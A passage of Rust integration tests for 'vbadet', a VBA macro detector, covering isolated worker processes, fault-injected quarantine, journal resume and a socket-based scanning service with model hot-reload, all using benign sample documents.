                1 => f64::INFINITY,
                2 => f64::NEG_INFINITY,
                _ => rng.gen_range(-10.0..10.0),
            })
            .collect();
        assert_eq!(
            rf.predict_proba(&x).to_bits(),
            rf.predict_proba_reference(&x).to_bits(),
            "case {case}: {x:?}"
        );
    }
}

#[test]
fn scratch_scoring_matches_plain_scoring_through_the_detector() {
    use vbadet::{Detector, DetectorConfig, ScoreScratch};
    let spec = vbadet_corpus::CorpusSpec::paper().scaled(0.02);
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);
    let mut rng = StdRng::seed_from_u64(0x5C0);
    let mut scratch = ScoreScratch::default();
    for _ in 0..100 {
        let src = mutate(&mut rng);
        let fast = detector.score_with(&mut scratch, &src);
        let slow = detector.score(&src);
        assert_eq!(fast.score.to_bits(), slow.score.to_bits(), "{src:?}");
        assert_eq!(fast.obfuscated, slow.obfuscated);
    }
}
