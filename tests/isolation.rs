//! Process-isolation integration suite: the `--isolate` supervisor engine
//! driving real child worker processes (`src/bin/isolation_worker.rs`,
//! resolved via `CARGO_BIN_EXE_isolation_worker`).
//!
//! The always-on tests prove the supervisor is a drop-in engine: identical
//! records and byte-identical deterministic counters against the
//! in-process engines, typed failures when the worker binary is missing,
//! and a worker-side memory ceiling that surfaces as `LimitExceeded`
//! instead of an OOM-killed worker.
//!
//! The `faultpoints`-gated tests kill workers for real — `abort()` inside
//! the OLE parser, a wedged decompressor past the heartbeat — and prove
//! the quarantine protocol (exactly one solo retry), journal resume
//! equality after a mid-batch kill, and the graceful drain path.
//!
//! The faultpoint registry is process-global and Rust runs integration
//! tests in parallel threads, so every test serializes on `TEST_LOCK`.

use std::path::{Path, PathBuf};
use std::sync::{Mutex, MutexGuard};

use vbadet::{
    scan_paths_with_policy, Detector, DetectorConfig, FailureClass, IsolateConfig, MetricsSink,
    ScanOutcome, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

static TEST_LOCK: Mutex<()> = Mutex::new(());

/// Serialize tests that touch process-global state (the faultpoint
/// registry, the drain latch); recover from a poisoned lock so one
/// failing test doesn't cascade into every later one.
fn global_guard() -> MutexGuard<'static, ()> {
    let guard = TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    #[cfg(feature = "faultpoints")]
    vbadet_faultpoint::clear();
    vbadet::scan::interrupt::reset();
    guard
}

/// The worker binary the supervisor re-executes: the whole binary is one
/// isolation worker speaking the frame protocol on stdin/stdout.
fn worker_config() -> IsolateConfig {
    IsolateConfig::new(vec![env!("CARGO_BIN_EXE_isolation_worker").to_string()])
}

fn tiny_detector() -> Detector {
    // Verdict quality is irrelevant here; the detector only has to produce
    // the same verdicts in the supervisor and in its workers.
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

fn macro_document() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

fn clean_document() -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream("WordDocument", b"plain text, no project")
        .unwrap();
    ole.build()
}

fn docm_document() -> Vec<u8> {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<?xml version=\"1.0\"?><Types/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/vbaProject.bin",
        &macro_document(),
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.finish()
}

fn fresh_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vbadet-isolation-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A mixed corpus exercising every container path: OLE with macros, clean
/// OLE, OOXML, junk, and a truncated project.
fn mixed_corpus(dir: &Path, docs: usize) -> Vec<PathBuf> {
    (0..docs)
        .map(|i| {
            let p = dir.join(format!("doc{i:02}.bin"));
            let bytes = match i % 5 {
                0 => macro_document(),
                1 => clean_document(),
                2 => docm_document(),
                3 => b"not a document at all".to_vec(),
                _ => {
                    let full = macro_document();
                    let cut = full.len() / 2;
                    full[..cut].to_vec()
                }
            };
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect()
}

fn metered(policy: ScanPolicy) -> ScanPolicy {
    policy.with_metrics(MetricsSink::enabled())
}

#[test]
fn isolated_records_and_counters_match_the_in_process_engines() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("equiv");
    let paths = mixed_corpus(&dir, 10);

    let sequential = scan_paths_with_policy(det, &paths, &metered(ScanPolicy::default()));
    let isolated = scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default().jobs(3).isolated(worker_config())),
    );

    // Same records in the same order, and the deterministic counters
    // section is byte-identical — the workers' per-document deltas merge
    // in input order, exactly like the in-process engines count.
    assert_eq!(sequential.records, isolated.records);
    assert!(!isolated.interrupted);
    let seq_counters = sequential.metrics.unwrap().counters_json();
    let iso_counters = isolated.metrics.unwrap().counters_json();
    assert_eq!(seq_counters, iso_counters);

    // Worker lifecycle telemetry rides on the histogram side, never in
    // the deterministic counters.
    assert!(!seq_counters.contains("isolate"));

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_missing_worker_binary_is_a_typed_per_document_failure_not_a_hang() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("missing");
    let paths = mixed_corpus(&dir, 3);

    let config = IsolateConfig::new(vec!["/nonexistent/vbadet-isolation-worker".to_string()]);
    let report = scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default().jobs(1).isolated(config)),
    );

    // The crash-loop cutoff trips after repeated spawn failures; every
    // document still gets a decided record and the batch terminates.
    assert_eq!(report.scanned(), paths.len());
    for record in &report.records {
        match &record.outcome {
            ScanOutcome::Failed {
                class: FailureClass::Fatal,
                detail,
            } => assert!(
                detail.contains("worker unavailable"),
                "detail was {detail:?}"
            ),
            other => panic!("expected a fatal worker-unavailable record, got {other:?}"),
        }
    }
    // No worker ever existed, so nothing was quarantined.
    let snapshot = report.metrics.unwrap();
    assert!(!snapshot.histograms.contains_key("isolate.quarantines"));

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn the_worker_memory_ceiling_is_a_typed_outcome_not_a_dead_worker() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("memcap");

    // A single ~2.5 MB module: decompressing it must allocate well past a
    // 1 MB ceiling, while staying far under the default resource limits.
    let mut body = String::with_capacity(3 << 20);
    body.push_str("Sub Work()\r\n");
    for line in 0..40_000 {
        body.push_str(&format!("    v{line} = v{line} + {line} Mod 7\r\n"));
    }
    body.push_str("End Sub\r\n");
    let mut builder = VbaProjectBuilder::new("P");
    builder.add_module("Big", &body);
    let path = dir.join("big.bin");
    std::fs::write(&path, builder.build().unwrap()).unwrap();
    let paths = [path];

    // Control: without a ceiling the document scans fine (in-process; the
    // test binary has no tracking allocator, the worker binary does).
    let control = scan_paths_with_policy(det, &paths, &ScanPolicy::default());
    assert!(
        matches!(control.records[0].outcome, ScanOutcome::Macros(_)),
        "control scan should succeed, got {:?}",
        control.records[0].outcome
    );

    let policy = metered(
        ScanPolicy::default()
            .jobs(1)
            .isolated(worker_config())
            .max_scan_mem_bytes(1 << 20),
    );
    let report = scan_paths_with_policy(det, &paths, &policy);
    match &report.records[0].outcome {
        ScanOutcome::Failed {
            class: FailureClass::LimitExceeded,
            detail,
        } => assert!(detail.contains("memory"), "detail was {detail:?}"),
        other => panic!("expected a typed memory-ceiling failure, got {other:?}"),
    }

    // The ceiling tripped *inside* the worker as a cooperative budget
    // breach: the worker survived (no restart, nothing quarantined).
    let snapshot = report.metrics.unwrap();
    assert!(
        !snapshot.histograms.contains_key("isolate.restarts"),
        "the worker must survive a memory-ceiling trip"
    );
    assert!(!snapshot.histograms.contains_key("isolate.quarantines"));

    let _ = std::fs::remove_dir_all(&dir);
}

#[cfg(feature = "faultpoints")]
mod faults {
    use super::*;
    use std::panic::AssertUnwindSafe;
    use std::time::Duration;

    use vbadet::{replay_journal, scan_paths_journaled, ScanJournal};
    use vbadet_faultpoint::{clear, configure};

    /// Junk documents never reach the OLE parser (the container sniffer
    /// rejects them first), so a worker armed with `ole::parse=abort`
    /// survives them — only OLE inputs are poison.
    fn safe_and_poison_corpus(dir: &Path) -> (Vec<PathBuf>, usize) {
        let mut paths = Vec::new();
        for i in 0..6 {
            let p = dir.join(format!("safe{i}.txt"));
            std::fs::write(&p, format!("plain junk payload {i}")).unwrap();
            paths.push(p);
        }
        let poison = dir.join("poison.bin");
        std::fs::write(&poison, macro_document()).unwrap();
        paths.insert(3, poison);
        (paths, 3)
    }

    #[test]
    fn an_aborting_document_is_quarantined_after_one_solo_retry_and_the_batch_survives() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("abort");
        let (paths, poison_idx) = safe_and_poison_corpus(&dir);

        // The faultpoint is armed in the *workers* via their environment;
        // this supervisor process never parses OLE under --isolate.
        let config = worker_config().env("VBADET_FAULTPOINTS", "ole::parse=abort");
        let policy = metered(ScanPolicy::default().jobs(4).isolated(config));
        let report = scan_paths_with_policy(det, &paths, &policy);

        // Every document decided: the abort cost one worker, not the batch.
        assert_eq!(report.scanned(), paths.len());
        match &report.records[poison_idx].outcome {
            ScanOutcome::Failed {
                class: FailureClass::Fatal,
                detail,
            } => {
                assert!(detail.contains("quarantined"), "detail was {detail:?}");
                assert!(detail.contains("SIGABRT"), "detail was {detail:?}");
                assert!(detail.contains("solo retry"), "detail was {detail:?}");
            }
            other => panic!("expected the poison document quarantined, got {other:?}"),
        }

        // Exactly one quarantine: first death, one solo retry, give up.
        let snapshot = report.metrics.unwrap();
        assert_eq!(snapshot.histograms["isolate.quarantines"].total, 1);

        // The survivors' records and deterministic counters are
        // byte-identical to a clean in-process run over just them —
        // the quarantined document leaves no counter trace.
        let survivors: Vec<PathBuf> = paths
            .iter()
            .enumerate()
            .filter(|(i, _)| *i != poison_idx)
            .map(|(_, p)| p.clone())
            .collect();
        let reference = scan_paths_with_policy(det, &survivors, &metered(ScanPolicy::default()));
        let surviving_records: Vec<_> = report
            .records
            .iter()
            .enumerate()
            .filter(|(i, _)| *i != poison_idx)
            .map(|(_, r)| r.clone())
            .collect();
        assert_eq!(surviving_records, reference.records);
        assert_eq!(
            snapshot.counters_json(),
            reference.metrics.unwrap().counters_json()
        );

        // Journaled, the same poisoned batch decides every document —
        // quarantined ones included — and the journal resumes cleanly: the
        // replay covers the full batch, so no worker is ever consulted.
        let journal_path = dir.join("scan.jsonl");
        let mut journal = ScanJournal::create(&journal_path).unwrap();
        let journal_policy = ScanPolicy::default()
            .jobs(4)
            .isolated(worker_config().env("VBADET_FAULTPOINTS", "ole::parse=abort"));
        let journaled =
            scan_paths_journaled(det, &paths, &journal_policy, Some(&mut journal), None);
        drop(journal);
        assert!(journaled.journal_error.is_none());
        assert_eq!(journaled.records, report.records);
        let replay = replay_journal(&journal_path).unwrap();
        assert!(replay.warning.is_none());
        assert_eq!(replay.completed_count(), paths.len());
        let resumed = scan_paths_journaled(det, &paths, &journal_policy, None, Some(&replay));
        assert_eq!(resumed.records, report.records);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_wedged_worker_is_heartbeat_killed_and_the_document_quarantined() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("wedge");
        let (paths, poison_idx) = safe_and_poison_corpus(&dir);

        // The decompressor wedges for far longer than the heartbeat; the
        // supervisor must SIGKILL the worker rather than wait it out.
        let config = worker_config()
            .env("VBADET_FAULTPOINTS", "ovba::decompress=sleep(10000)")
            .heartbeat(Duration::from_millis(900));
        let policy = metered(ScanPolicy::default().jobs(1).isolated(config));
        let start = std::time::Instant::now();
        let report = scan_paths_with_policy(det, &paths, &policy);
        let elapsed = start.elapsed();

        assert_eq!(report.scanned(), paths.len());
        match &report.records[poison_idx].outcome {
            ScanOutcome::Failed {
                class: FailureClass::Fatal,
                detail,
            } => {
                assert!(detail.contains("quarantined"), "detail was {detail:?}");
                assert!(detail.contains("heartbeat"), "detail was {detail:?}");
            }
            other => panic!("expected a heartbeat quarantine, got {other:?}"),
        }
        // Two kills: the first attempt and the solo retry — then the batch
        // moves on instead of waiting out the 10 s stall even once.
        let snapshot = report.metrics.unwrap();
        assert_eq!(snapshot.histograms["isolate.heartbeat_kills"].total, 2);
        assert!(
            elapsed < Duration::from_secs(8),
            "heartbeat did not cut the stall short: {elapsed:?}"
        );

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn isolate_kill_and_resume_reproduces_the_reference_exactly() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("resume");
        let paths = mixed_corpus(&dir, 12);

        let policy = metered(ScanPolicy::default().jobs(3).isolated(worker_config()));
        let reference = scan_paths_journaled(det, &paths, &policy, None, None);

        // The supervisor's collector dies (simulated crash) at the third
        // in-order record — the same crash surface the in-process engines
        // have, however the workers interleaved.
        configure("scan::between-docs", "panic(killed)@3").unwrap();
        let journal_path = dir.join("scan.jsonl");
        let mut journal = ScanJournal::create(&journal_path).unwrap();
        let crash = std::panic::catch_unwind(AssertUnwindSafe(|| {
            scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None)
        }));
        assert!(crash.is_err(), "the injected kill should have escaped");
        clear();
        drop(journal);

        // The journal holds exactly the documents that finished in input
        // order before the kill; resuming — again under --isolate —
        // replays them without consulting a worker and scans the rest.
        let replay = replay_journal(&journal_path).unwrap();
        assert!(replay.warning.is_none());
        assert_eq!(replay.completed_count(), 2);
        let resumed = scan_paths_journaled(det, &paths, &policy, None, Some(&replay));
        assert_eq!(resumed.records, reference.records);

        // And the sequential engine resuming the same journal agrees.
        let seq = scan_paths_journaled(
            det,
            &paths,
            &metered(ScanPolicy::default()),
            None,
            Some(&replay),
        );
        assert_eq!(seq.records, reference.records);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn an_injected_drain_stops_cleanly_and_the_journal_resumes_to_the_full_report() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("drain");
        let paths = mixed_corpus(&dir, 8);

        let reference = scan_paths_journaled(det, &paths, &ScanPolicy::default(), None, None);

        // The drain latch trips (as a SIGINT handler would trip it) when
        // the engine polls before the third document.
        configure("scan::request-drain", "return@3").unwrap();
        let journal_path = dir.join("scan.jsonl");
        let mut journal = ScanJournal::create(&journal_path).unwrap();
        let policy = ScanPolicy::default().drain_on_interrupt();
        let report = scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None);
        clear();
        vbadet::scan::interrupt::reset();
        drop(journal);

        // A contiguous prefix was decided and journaled; the report says
        // it was interrupted rather than pretending the batch finished.
        assert!(report.interrupted);
        assert_eq!(report.scanned(), 2);
        assert_eq!(report.records[..], reference.records[..2]);
        assert!(report.journal_error.is_none());

        // Resume picks up where the drain stopped and lands on the exact
        // uninterrupted report — under the isolated engine, no less.
        let replay = replay_journal(&journal_path).unwrap();
        assert!(replay.warning.is_none());
        assert_eq!(replay.completed_count(), 2);
        let resumed = scan_paths_journaled(
            det,
            &paths,
            &ScanPolicy::default().jobs(2).isolated(worker_config()),
            None,
            Some(&replay),
        );
        assert!(!resumed.interrupted);
        assert_eq!(resumed.records, reference.records);

        let _ = std::fs::remove_dir_all(&dir);
    }
}
