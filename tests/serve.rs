//! Resident-service integration suite: `vbadet::serve` driven over real
//! sockets, proving the admission, backpressure, breaker and drain
//! contracts end to end.
//!
//! The always-on tests cover the wire protocol (all four verbs, ids,
//! inline documents, typed rejections), both transports, and verdict
//! equivalence between the in-process and isolated service engines.
//!
//! The `faultpoints`-gated tests inject load and death: a wedged scan
//! fills the queue until a request is shed with `overloaded`; injected
//! worker deaths open the circuit breaker, which recovers through a
//! half-open probe; and a poison document that aborts its isolate worker
//! costs that worker, never the service.
//!
//! The drain latch and faultpoint registry are process-global, so every
//! test serializes on `TEST_LOCK`.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::sync::{Mutex, MutexGuard};
use std::thread;
#[cfg(feature = "faultpoints")]
use std::time::Duration;

use vbadet::{Detector, DetectorConfig, Listener, ScanPolicy, ServeConfig, ServeSummary};
use vbadet_corpus::CorpusSpec;
use vbadet_ovba::VbaProjectBuilder;

static TEST_LOCK: Mutex<()> = Mutex::new(());

fn global_guard() -> MutexGuard<'static, ()> {
    let guard = TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    #[cfg(feature = "faultpoints")]
    vbadet_faultpoint::clear();
    vbadet::scan::interrupt::reset();
    // The hot-reload latch is process-global like the drain latch; a
    // leftover request from a panicked test must not fire in the next
    // test's accept loop.
    vbadet::reset_reload_requests();
    guard
}

fn tiny_detector() -> Detector {
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

/// A second tiny detector whose trained weights — and therefore save-text
/// fingerprint — differ from [`tiny_detector`]'s.
fn tiny_detector_seeded(seed: u64) -> Detector {
    let config = DetectorConfig {
        seed,
        ..DetectorConfig::default()
    };
    Detector::train_on_corpus(&config, &CorpusSpec::paper().scaled(0.002))
}

fn macro_document() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

/// Runs the service on an ephemeral TCP port for the duration of `drive`,
/// then requests the drain and returns the summary alongside `drive`'s
/// result.
fn with_server<R>(
    detector: &Detector,
    config: &ServeConfig,
    drive: impl FnOnce(std::net::SocketAddr) -> R,
) -> (ServeSummary, R) {
    let listener = Listener::bind_tcp("127.0.0.1:0").unwrap();
    let addr = listener.tcp_addr().unwrap();
    // The drain latch is process-global and sticky: without this reset a
    // second `with_server` in the same test would inherit the previous
    // drain and exit before accepting anything.
    vbadet::scan::interrupt::reset();
    let mut out = None;
    let mut summary = None;
    // Latch the drain even when `drive` panics: otherwise the scope join
    // waits forever on a server nobody told to exit, and the panic that
    // actually failed the test is masked by a hang.
    struct DrainOnDrop;
    impl Drop for DrainOnDrop {
        fn drop(&mut self) {
            vbadet::scan::interrupt::request_drain();
        }
    }
    thread::scope(|s| {
        let server = s.spawn(|| vbadet::serve(&listener, detector, config, None));
        let drain = DrainOnDrop;
        out = Some(drive(addr));
        drop(drain);
        summary = Some(server.join().unwrap());
    });
    (summary.unwrap(), out.unwrap())
}

/// One line-oriented protocol client.
struct Client {
    writer: TcpStream,
    reader: BufReader<TcpStream>,
}

impl Client {
    fn connect(addr: std::net::SocketAddr) -> Client {
        let writer = TcpStream::connect(addr).unwrap();
        writer.set_nodelay(true).unwrap();
        let reader = BufReader::new(writer.try_clone().unwrap());
        Client { writer, reader }
    }

    fn send(&mut self, line: &str) {
        // One write per request line; a trailing 1-byte `\n` write would
        // stall behind Nagle and skew the breaker tests' timing.
        self.writer
            .write_all(format!("{line}\n").as_bytes())
            .unwrap();
    }

    fn recv(&mut self) -> String {
        let mut line = String::new();
        self.reader.read_line(&mut line).unwrap();
        line.trim().to_string()
    }

    fn roundtrip(&mut self, line: &str) -> String {
        self.send(line);
        self.recv()
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Extracts a bare numeric field (`"key":N`) from a one-line response.
fn field_u64(line: &str, key: &str) -> u64 {
    let tag = format!("\"{key}\":");
    let at = line
        .find(&tag)
        .unwrap_or_else(|| panic!("no {key} in {line}"));
    line[at + tag.len()..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap()
}

/// Extracts a string field (`"key":"value"`) from a one-line response.
fn field_str(line: &str, key: &str) -> String {
    let tag = format!("\"{key}\":\"");
    let at = line
        .find(&tag)
        .unwrap_or_else(|| panic!("no {key} in {line}"));
    line[at + tag.len()..]
        .chars()
        .take_while(|&c| c != '"')
        .collect()
}

#[test]
fn every_verb_answers_and_the_drain_accounts_for_every_response() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-serve-verbs-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, macro_document()).unwrap();

    let config = ServeConfig::new(ScanPolicy::default());
    let (summary, ()) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);

        let health = c.roundtrip("health");
        assert!(health.contains("\"ok\":true"), "{health}");
        assert!(health.contains("\"draining\":false"), "{health}");
        assert!(health.contains("\"breaker\":\"closed\""), "{health}");

        let ready = c.roundtrip("ready");
        assert!(ready.contains("\"ready\":true"), "{ready}");

        // Text-form scan of a real document on disk.
        let scan = c.roundtrip(&format!("scan {}", doc.display()));
        assert!(scan.contains("\"op\":\"scan\""), "{scan}");
        assert!(scan.contains("\"kind\":\"macros\""), "{scan}");

        // JSON form: the id round-trips, the inline bytes really get
        // scanned (same macro project, shipped as hex).
        let inline = c.roundtrip(&format!(
            "{{\"op\":\"scan\",\"bytes_hex\":\"{}\",\"id\":\"req-9\"}}",
            hex(&macro_document())
        ));
        assert!(inline.contains("\"id\":\"req-9\""), "{inline}");
        assert!(inline.contains("\"kind\":\"macros\""), "{inline}");

        // A malformed line gets a typed rejection, and the connection
        // keeps working afterwards.
        let bad = c.roundtrip("frobnicate the server");
        assert!(bad.contains("\"ok\":false"), "{bad}");
        assert!(bad.contains("\"error\":\"bad-request\""), "{bad}");

        let metrics = c.roundtrip("metrics");
        assert!(metrics.contains("\"op\":\"metrics\""), "{metrics}");
        assert!(metrics.contains("vbadet-scan-metrics"), "{metrics}");
        assert!(metrics.contains("serve.accepted"), "{metrics}");
    });

    assert!(summary.drained);
    assert_eq!(summary.accepted, 2);
    assert_eq!(summary.shed, 0);
    assert_eq!(summary.responses, 6, "exactly one response per line");
    assert!(summary.journal_error.is_none());
    let snapshot = summary.metrics.unwrap();
    assert_eq!(snapshot.histograms["serve.accepted"].total, 2);
    assert_eq!(snapshot.histograms["serve.drains"].count, 1);
    // Service counters are racy by nature; none may leak into the
    // deterministic counters section.
    assert!(!snapshot.counters_json().contains("serve."));

    let _ = std::fs::remove_dir_all(&dir);
}

#[cfg(unix)]
#[test]
fn the_unix_transport_works_and_replaces_a_stale_socket_file() {
    let _guard = global_guard();
    let det = tiny_detector();
    let path = std::env::temp_dir().join(format!("vbadet-serve-{}.sock", std::process::id()));
    // A stale socket file from a "crashed" previous daemon must not block
    // the bind.
    let _ = std::fs::remove_file(&path);
    drop(Listener::bind_unix(&path).unwrap());
    let listener = Listener::bind_unix(&path).unwrap();
    assert!(listener.tcp_addr().is_none());

    let config = ServeConfig::new(ScanPolicy::default());
    let mut summary = None;
    thread::scope(|s| {
        let server = s.spawn(|| vbadet::serve(&listener, &det, &config, None));
        let stream = std::os::unix::net::UnixStream::connect(&path).unwrap();
        let mut reader = BufReader::new(stream.try_clone().unwrap());
        let mut writer = stream;
        writer.write_all(b"ready\n").unwrap();
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        assert!(line.contains("\"ready\":true"), "{line}");
        vbadet::scan::interrupt::request_drain();
        summary = Some(server.join().unwrap());
    });
    assert_eq!(summary.unwrap().responses, 1);
    let _ = std::fs::remove_file(&path);
}

#[test]
fn isolated_and_in_process_service_verdicts_agree() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-serve-iso-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, macro_document()).unwrap();
    let junk = dir.join("junk.doc");
    std::fs::write(&junk, b"definitely not a document").unwrap();

    let outcomes = |config: &ServeConfig| {
        let (summary, lines) = with_server(&det, config, |addr| {
            let mut c = Client::connect(addr);
            [
                c.roundtrip(&format!("scan {}", doc.display())),
                c.roundtrip(&format!("scan {}", junk.display())),
            ]
        });
        assert_eq!(summary.accepted, 2);
        lines
    };

    let in_process = outcomes(&ServeConfig::new(ScanPolicy::default()));
    let isolated = outcomes(&ServeConfig::new(ScanPolicy::default().isolated(
        vbadet::IsolateConfig::new(vec![env!("CARGO_BIN_EXE_isolation_worker").to_string()]),
    )));
    // Byte-identical responses: isolation changes the blast radius, never
    // the answer.
    assert_eq!(in_process, isolated);
    assert!(
        in_process[0].contains("\"kind\":\"macros\""),
        "{in_process:?}"
    );
    assert!(
        in_process[1].contains("unknown-container"),
        "{in_process:?}"
    );

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn an_oversized_request_line_is_rejected_typed_then_the_connection_closes() {
    let _guard = global_guard();
    let det = tiny_detector();
    let config = ServeConfig::new(ScanPolicy::default());
    let (summary, ()) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);
        // One byte over the 1 MiB line cap with no newline in sight: the
        // server must answer typed instead of buffering forever. (Exactly
        // one byte over, so the server consumes the whole send before
        // closing — a clean FIN, not an RST that could eat the reply.)
        let blob = vec![b'a'; vbadet::serve::MAX_REQUEST_LINE_BYTES - 4];
        c.writer.write_all(b"scan ").unwrap();
        c.writer.write_all(&blob).unwrap();
        let reply = c.recv();
        assert!(reply.contains("\"error\":\"oversized\""), "{reply}");
        // EOF follows: the unframeable rest of the line cannot be parsed.
        let mut rest = String::new();
        assert_eq!(c.reader.read_line(&mut rest).unwrap(), 0);
    });
    assert_eq!(summary.responses, 1);
    assert_eq!(summary.accepted, 0);
}

#[test]
fn a_reload_swaps_generations_and_old_cache_entries_become_misses() {
    let _guard = global_guard();
    let det = tiny_detector();
    let next = tiny_detector_seeded(99);
    let dir = std::env::temp_dir().join(format!("vbadet-serve-reload-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, macro_document()).unwrap();
    let model = dir.join("next.model");
    std::fs::write(&model, next.save()).unwrap();

    // An in-memory result cache, to prove a reload invalidates it: the
    // bound key embeds the detector fingerprint, so entries written under
    // generation 1 must be clean misses for generation 2.
    let policy =
        ScanPolicy::default().with_cache(std::sync::Arc::new(vbadet::ScanCache::in_memory(64)));
    let config = ServeConfig::new(policy);
    let (summary, ()) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);
        let line = format!("scan {}", doc.display());

        let before = c.roundtrip("model");
        assert_eq!(field_u64(&before, "generation"), 1);
        assert_eq!(field_str(&before, "version"), "startup");
        let old_fp = field_str(&before, "fingerprint");

        // Two identical scans under generation 1: a miss, then a hit.
        for _ in 0..2 {
            let scan = c.roundtrip(&line);
            assert_eq!(field_u64(&scan, "generation"), 1, "{scan}");
            assert!(scan.contains("\"kind\":\"macros\""), "{scan}");
        }

        let reload = c.roundtrip(&format!("reload {}", model.display()));
        assert!(reload.contains("\"ok\":true"), "{reload}");
        assert!(reload.contains("\"op\":\"reload\""), "{reload}");
        assert_eq!(field_u64(&reload, "generation"), 2);
        let new_fp = field_str(&reload, "fingerprint");
        assert_ne!(new_fp, old_fp, "distinct models must fingerprint apart");

        let after = c.roundtrip("model");
        assert_eq!(field_u64(&after, "generation"), 2);
        assert_eq!(field_str(&after, "fingerprint"), new_fp);
        assert_eq!(field_str(&after, "version"), model.display().to_string());

        // The same document again: generation 1's cache entry must be a
        // clean miss for generation 2 (the key embeds the fingerprint),
        // then the re-scan's insert serves the final request.
        for _ in 0..2 {
            let scan = c.roundtrip(&line);
            assert_eq!(field_u64(&scan, "generation"), 2, "{scan}");
            assert!(scan.contains("\"kind\":\"macros\""), "{scan}");
        }
    });

    assert_eq!(summary.accepted, 4);
    let snapshot = summary.metrics.unwrap();
    assert_eq!(
        snapshot.histograms["cache.hits"].total, 2,
        "one hit per generation — never across the reload"
    );
    assert_eq!(snapshot.histograms["cache.misses"].total, 2);
    assert_eq!(snapshot.histograms["reload.success"].total, 1);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_malformed_model_is_rejected_typed_and_the_old_generation_serves() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-serve-badmodel-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, macro_document()).unwrap();
    let garbage = dir.join("garbage.model");
    std::fs::write(&garbage, "not a saved detector at all\n").unwrap();

    let config = ServeConfig::new(ScanPolicy::default());
    let (summary, ()) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);

        let rejected = c.roundtrip(&format!("reload {}", garbage.display()));
        assert!(rejected.contains("\"ok\":false"), "{rejected}");
        assert!(
            rejected.contains("\"error\":\"reload-failed\""),
            "{rejected}"
        );
        assert!(rejected.contains("loading"), "{rejected}");

        let missing = c.roundtrip(&format!("reload {}", dir.join("absent").display()));
        assert!(missing.contains("\"error\":\"reload-failed\""), "{missing}");
        assert!(missing.contains("reading"), "{missing}");

        // The old generation never stopped serving.
        let model = c.roundtrip("model");
        assert_eq!(field_u64(&model, "generation"), 1);
        let scan = c.roundtrip(&format!("scan {}", doc.display()));
        assert_eq!(field_u64(&scan, "generation"), 1, "{scan}");
        assert!(scan.contains("\"kind\":\"macros\""), "{scan}");
    });

    let snapshot = summary.metrics.unwrap();
    assert_eq!(snapshot.histograms["reload.failed"].total, 2);
    assert!(!snapshot.histograms.contains_key("reload.success"));

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn concurrent_reloads_serialize_and_the_last_swap_wins() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-serve-relrace-{}", std::process::id()));
